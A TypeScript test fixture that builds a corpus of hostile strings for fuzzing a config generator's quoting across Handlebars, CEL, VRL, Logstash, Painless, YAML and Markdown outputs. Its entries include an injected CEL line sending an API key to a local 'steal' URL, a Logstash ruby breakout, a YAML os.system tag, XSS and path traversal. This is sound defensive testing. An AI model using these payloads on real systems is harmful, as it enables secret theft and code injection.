/**
 * Hostile strings for the injection suites: text that would become code, a live variable, a
 * secret reference or a broken file in some target if it reached an output unquoted.
 *
 * Each entry is the *decoded* text a map author could write (the map spelling comes from
 * {@link ./positions.ts}). {@link HOSTILE_STRINGS} is the whole deterministic corpus (run outside
 * CI by `npm run fuzz`); {@link CORE_HOSTILE} is a subset with every fragment alone and wrapped,
 * small enough for every position of every target in CI.
 *
 * @module
 */

/** One attack idea each: the syntax of a target that a string must never reach unquoted. */
export const FRAGMENTS: readonly string[] = [
  // quotes and escapes of every target's string syntax
  '"',
  "'",
  '`',
  '\\',
  '\\\\',
  '\\"',
  "\\'",
  '\\n',
  '\\u0041',
  '\\x41',
  // Handlebars (Fleet renders agent/stream/*.yml.hbs)
  '{{',
  '}}',
  '{{api_key}}',
  '{{{api_key}}}',
  '\\{{api_key}}',
  '\\\\{{api_key}}',
  '{{!comment}}',
  '{{> partial}}',
  '{{#if x}}y{{/if}}',
  '{{escape_string api_key}}',
  // environment and secret interpolation (Vector, Logstash) and sprintf (Logstash)
  '$',
  '$$',
  '$HOME',
  '${HOME}',
  '${INJ_API_KEY}',
  '${INJ_API_KEY:default}',
  '$${HOME}',
  'SECRET[backend.key]',
  'SECRET[mapc.api_key]',
  '%{message}',
  '%{[@metadata][_id]}',
  '%{+yyyy.MM.dd}',
  '%{{x}}',
  // YAML
  '#',
  ' # comment',
  ': ',
  'key: value',
  '- item',
  '&anchor',
  '*alias',
  '!!binary',
  '!!python/object:os.system',
  '---',
  '...',
  '|',
  '>',
  '? ',
  '@',
  '%YAML 1.2',
  'yes',
  'no',
  'null',
  '~',
  '0x1F',
  '1e3',
  '.inf',
  '0o17',
  '2001-12-14',
  '[a, b]',
  '{a: b}',
  // CEL
  '" + state.api_key + "',
  "' + state.api_key + '",
  '"""',
  "r'",
  'b"',
  '// comment',
  '/* comment */',
  // VRL
  '"; .leak = get_env_var!("HOME"); "',
  "s'",
  "r'",
  '{{ .x }}',
  '\\{',
  // Painless and ingest Mustache
  "'; ctx._id = 'x'; '",
  '"; ctx._id = "x"; "',
  '{{ctx._id}}',
  '{{{ctx._source}}}',
  '{{#toJson}}ctx{{/toJson}}',
  '{{=<% %>=}}',
  // Logstash config syntax
  '} filter { ruby { code => "exit" } } {',
  '=>',
  '[',
  ']',
  ',',
  '[@metadata][_id]',
  // Markdown and HTML in generated READMEs
  '<script>alert(1)</script>',
  '[link](javascript:alert(1))',
  '| table |',
  // URLs and HTTP
  'http://127.0.0.1:9999/steal',
  'https://user:pass@example.com/',
  '?a=b&c=d',
  '#fragment',
  '%0d%0a',
  '%00',
  '/../../etc/passwd',
  // line structure
  '\n',
  '\r',
  '\r\n',
  '\n    get("http://127.0.0.1:9999/steal?k=" + state.api_key).StatusCode == 0 ? {} : //',
  '\napi:\n  enabled: true\n  address: 0.0.0.0:8686\n#',
  '\t',
  // control and special characters
  '\u0000',
  '\u0001',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u009b',
  '\u2028',
  '\u2029',
  '\ufeff',
  '\u200b',
  '\u202e',
  '\ufffe',
  '😀',
  '\u{10ffff}',
  'İ',
  'ß',
  // sizes
  'x'.repeat(10_000),
];

const WRAPPERS: readonly ((s: string) => string)[] = [
  (s) => s,
  (s) => `L${s}R`,
  (s) => `Price in ${s} USD`,
  (s) => `${s}${s}`,
  (s) => `\n${s}`,
  (s) => `${s}\n`,
];

function dedupe(strings: Iterable<string>): string[] {
  return [...new Set(strings)];
}

/** Every fragment alone and inside text: the CI corpus. */
export const CORE_HOSTILE: readonly string[] = dedupe(FRAGMENTS.flatMap((f) => [f, `L${f}R`]));

/**
 * The whole corpus: every fragment under every wrapper, and every ordered pair of the short
 * fragments (a quote before a template opener, an escape before a quote, ...).
 */
export const HOSTILE_STRINGS: readonly string[] = dedupe([
  ...FRAGMENTS.flatMap((f) => WRAPPERS.map((w) => w(f))),
  ...pairs(FRAGMENTS.filter((f) => f.length <= 3)),
]);

function* pairs(short: readonly string[]): Generator<string> {
  for (const a of short) for (const b of short) if (a !== b) yield a + b;
}
